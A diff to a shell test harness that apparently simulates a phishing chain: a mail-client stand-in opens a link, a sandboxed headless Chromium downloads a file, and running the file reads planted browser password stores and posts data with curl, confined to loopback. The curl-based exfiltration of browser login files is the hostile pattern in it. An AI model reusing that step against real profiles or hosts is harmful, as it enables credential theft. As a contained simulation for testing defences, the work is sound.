@@ -15,7 +15,7 @@ case $variant in closed | open) ;; *)
 esac
 
 home=$root/home/mika
-mkdir -p "$root/far" "$root/bin" "$root/pids" "$home/Downloads" "$home/.config/chromium/Default" "$home/.mozilla/firefox/x.default" "$root/profile/Default"
+mkdir -p "$root/far" "$root/pids" "$home/Downloads" "$home/.config/chromium/Default" "$home/.mozilla/firefox/x.default" "$root/profile/Default"
 printf 'planted by a story' >"$home/.config/chromium/Default/Login Data"
 printf '{"logins":[]}' >"$home/.mozilla/firefox/x.default/logins.json"
 printf '{"download":{"default_directory":"%s","prompt_for_download":false},"safebrowsing":{"enabled":false}}' "$home/Downloads" >"$root/profile/Default/Preferences"
@@ -34,61 +34,38 @@ sh -c 'printf "logins\t%s\tanother browser password store read\n" \$\$ >>$STEPS;
 sh -c 'printf "post\t%s\tdata posted to loopback\n" \$\$ >>$STEPS; exec curl -s -m 5 --data-binary "@$shm/a" http://127.0.0.1:$web/in'
 PAYLOAD
 
-flags="--ozone-platform=headless --no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking --disable-component-update --disable-sync --disable-dev-shm-usage --no-default-browser-check --password-store=basic --user-data-dir=$root/profile"
-
-only='--host-resolver-rules=MAP * ~NOTFOUND , EXCLUDE 127.0.0.1' # the browser reaches nothing but loopback
-
-# stand-ins, named for what they stand for
-cat >"$root/bin/xdg-open" <<OPEN
-#!/bin/sh
-printf 'opener\t%s\tprogram that opens links\n' \$\$ >>$STEPS
-HOME=$home chromium $flags "$only" "\$1" >$root/opened.log 2>&1 &
-printf '%s\t%s\tbrowser started with the link\n' "$([ "$variant" = open ] && echo stub || echo browser)" \$! >>$STEPS
-echo \$! >$root/pids/link
-wait \$!
-OPEN
-cat >"$root/bin/thunderbird" <<MAIL
-#!/bin/sh
-printf 'mail\t%s\tmail client\n' \$\$ >>$STEPS
-$root/bin/xdg-open "http://127.0.0.1:$web/notice.html"
-exit 0
-MAIL
-cat >"$root/bin/file-manager" <<FILES
-#!/bin/sh
-chmod 755 "$home/Downloads/statement"
-"$home/Downloads/statement"
-exit 0
-FILES
-chmod 755 "$root"/bin/*
+# stand-ins, named for what they stand for; the browser is the real one
+export PROFILE=$root/profile PIDS=$root/pids ROLE=browser HOME=$home
+[ "$variant" = open ] && ROLE=stub
 
 if [ "$variant" = open ]; then
 	say "the browser is already open"
-	HOME=$home chromium $flags "$only" about:blank >"$root/browser.log" 2>&1 &
+	"$here/stand-in/browser" about:blank >"$root/browser.log" 2>&1 &
 	helpers+=("$!")
 	echo "$!" >"$root/pids/browser"
-	for _ in $(seq 100); do
+	for ((n = 0; n < 100; n++)); do
 		[ -L "$root/profile/SingletonLock" ] && break
-		sleep 0.1
+		pause 0.1
 	done
 	[ -L "$root/profile/SingletonLock" ] || { cat "$root/browser.log" >&2; echo "chromium did not start" >&2; exit 1; }
-	sleep 2
+	pause 2
 fi
 say "the mail client opens a link"
-"$root/bin/thunderbird" &
+"$here/stand-in/thunderbird" "$STEPS" "http://127.0.0.1:$web/notice.html" &
 mail=$!
 until_file "$root/pids/link" 50
 [ "$variant" = open ] || helpers+=("$(cat "$root/pids/link")")
-until_file "$home/Downloads/statement" 200 || { cat "$root"/*.log >&2; exit 1; }
+until_file "$home/Downloads/statement" 200 || { cat "$root"/pids/*.log >&2; exit 1; }
 say "the browser has downloaded the file"
-sleep 0.5
+pause 0.5
 say "the file is run"
-"$root/bin/file-manager" &
+"$here/stand-in/file-manager" "$home/Downloads/statement" &
 wait "$!"
 say "planted stores were read and posted to loopback"
 for p in "${helpers[@]}"; do kill "$p" 2>/dev/null || true; done
 wait "$mail" || true
-for _ in $(seq 30); do
+for ((n = 0; n < 30; n++)); do
 	[ -L "$root/profile/SingletonLock" ] || break
-	sleep 0.1
+	pause 0.1
 done
 grep -q '^post' "$STEPS"
